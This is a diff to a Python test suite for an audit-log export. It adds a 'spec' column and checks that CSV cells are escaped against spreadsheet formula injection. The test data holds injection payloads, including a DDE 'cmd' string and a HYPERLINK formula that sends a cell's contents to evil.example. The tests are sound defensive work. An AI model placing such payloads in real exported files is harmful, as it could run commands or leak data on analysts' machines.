@@ -112,18 +112,26 @@ def test_csv_cells_people_name_cannot_run_as_spreadsheet_formulas(store: AuditSt
         recorded_at=NOW,
     )
     store.record_outcome([message_id], AuditStatus.FAILED, error="@SUM(1+1)")
+    # A message built by hand (not by a spec class) can name any spec.
+    with store.engine.begin() as connection:
+        where = AuditEntry.message_id == message_id
+        payload = connection.scalar(select(AuditEntry.payload).where(where))
+        assert payload is not None
+        payload["context"]["eventCatalog"]["spec"] = "-2+3"
+        connection.execute(update(AuditEntry).where(where).values(payload=payload))
     text = "".join(Export(store.engine, AuditFilter(), ExportFormat.CSV))
     (row,) = csv.DictReader(io.StringIO(text))
-    assert (row["actor"], row["destination"], row["error"]) == (
+    assert (row["actor"], row["destination"], row["error"], row["spec"]) == (
         "'=cmd|'/ccalc'!a0@example.com",
         "'+staging:0123456789ab",
         "'@SUM(1+1)",
+        "'-2+3",
     )
     (line,) = [
         json.loads(line)
         for line in "".join(Export(store.engine, AuditFilter(), ExportFormat.NDJSON)).splitlines()
     ]
-    assert (line["actor"], line["error"]) == (actor, "@SUM(1+1)")
+    assert (line["actor"], line["error"], line["spec"]) == (actor, "@SUM(1+1)", "-2+3")
 
 
 SENT_FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)", "\tx", "\rx"]
@@ -181,6 +189,40 @@ def test_ndjson_export_is_one_object_per_line_newest_first(store: AuditStore) ->
     assert first["recorded_at"] == (NOW - timedelta(minutes=3)).isoformat()
 
 
+def test_exports_name_the_spec_that_built_each_entry_in_their_last_column(engine: Engine) -> None:
+    """Identify entries have no event string: an analyst told a Register call from a Login only by
+    reading `payload.context.eventCatalog.spec`. The spec comes after the payload, so the columns a
+    script reads by position stay where they were; on both databases, masked (PostgreSQL's COPY) and
+    unmasked."""
+    key = Fernet.generate_key().decode()
+    store = AuditStore(engine, encryption_key=key)
+    traits = {"email": "ada@example.com", "github": False}
+    register = record(store, "Register", scope={"user_id": 7}, properties=traits, recorded_at=NOW)
+    login = record(store, "Login", scope={"user_id": 7}, properties=traits, recorded_at=NOW)
+    action = record_action(store, "Scope Preset Saved", actor="ada@example.com", properties={"name": "p"})
+    header = (
+        "message_id,recorded_at,timestamp,type,event,status,status_changed_at,source,destination,actor,"
+        "user_id,project_id,cluster_id,catalog_version,http_status,error,payload,spec"
+    )
+    for cipher in (None, PersonalDataCipher(key)):
+        text = "".join(Export(engine, AuditFilter(), ExportFormat.CSV, cipher=cipher))
+        assert text.startswith(BOM + header + "\r\n")
+        rows = list(csv.DictReader(io.StringIO(text.removeprefix(BOM))))
+        assert {row["message_id"]: (row["event"], row["spec"]) for row in rows} == {
+            register: ("", "RegisterIdentify"),
+            login: ("", "LoginIdentify"),
+            action: ("Scope Preset Saved", ""),
+        }
+        ndjson = "".join(Export(engine, AuditFilter(), ExportFormat.NDJSON, cipher=cipher))
+        lines = [json.loads(line) for line in ndjson.splitlines()]
+        assert [list(line) for line in lines] == [header.split(",")] * 3
+        assert {line["message_id"]: (line["event"], line["spec"]) for line in lines} == {
+            register: (None, "RegisterIdentify"),
+            login: (None, "LoginIdentify"),
+            action: ("Scope Preset Saved", None),
+        }
+
+
 def test_ndjson_export_applies_every_kind_of_filter(store: AuditStore) -> None:
     ids = _seed_three(store)
 
@@ -236,18 +278,22 @@ _AWKWARD = {
 
 
 def _expected_cells(engine: Engine) -> list[list[Any]]:
-    """Every entry, newest first, as Python writes it: times by `isoformat()` in UTC, payloads as stored."""
-    columns = [
-        cast(AuditEntry.payload, Text) if name == "payload" else getattr(AuditEntry, name)
-        for name in EXPORT_COLUMNS
+    """Every entry, newest first, as Python writes it: times by `isoformat()` in UTC, payloads as
+    stored, the spec as the payload's catalog marker names it."""
+    *columns, spec = EXPORT_COLUMNS
+    selected = [
+        cast(AuditEntry.payload, Text) if name == "payload" else getattr(AuditEntry, name) for name in columns
     ]
-    query = select(*columns).order_by(AuditEntry.recorded_at.desc(), AuditEntry.id.desc())
+    query = select(*selected).order_by(AuditEntry.recorded_at.desc(), AuditEntry.id.desc())
     with engine.connect() as connection:
         rows = connection.execute(query).all()
     return [
         [
-            as_utc(value).isoformat() if name in TIME_COLUMNS else value
-            for name, value in zip(EXPORT_COLUMNS, row, strict=True)
+            *(
+                as_utc(value).isoformat() if name in TIME_COLUMNS else value
+                for name, value in zip(columns, row, strict=True)
+            ),
+            json.loads(row.payload)["context"]["eventCatalog"][spec],
         ]
         for row in rows
     ]
@@ -265,9 +311,10 @@ def test_exported_text_is_what_json_dumps_and_the_csv_writer_write(store: AuditS
             connection.execute(update(AuditEntry).where(AuditEntry.message_id == message_id).values(**values))
     expected = _expected_cells(store.engine)
     ndjson = "".join(Export(store.engine, AuditFilter(), ExportFormat.NDJSON))
+    at = EXPORT_COLUMNS.index("payload")
     lines = [
-        json.dumps(dict(zip(EXPORT_COLUMNS[:-1], cells, strict=False)), ensure_ascii=False)[:-1]
-        + f', "payload": {cells[-1]}}}\n'
+        json.dumps(dict(zip(EXPORT_COLUMNS[:at], cells, strict=False)), ensure_ascii=False)[:-1]
+        + f', "payload": {cells[at]}, "spec": {json.dumps(cells[-1])}}}\n'
         for cells in expected
     ]
     assert ndjson == "".join(lines)
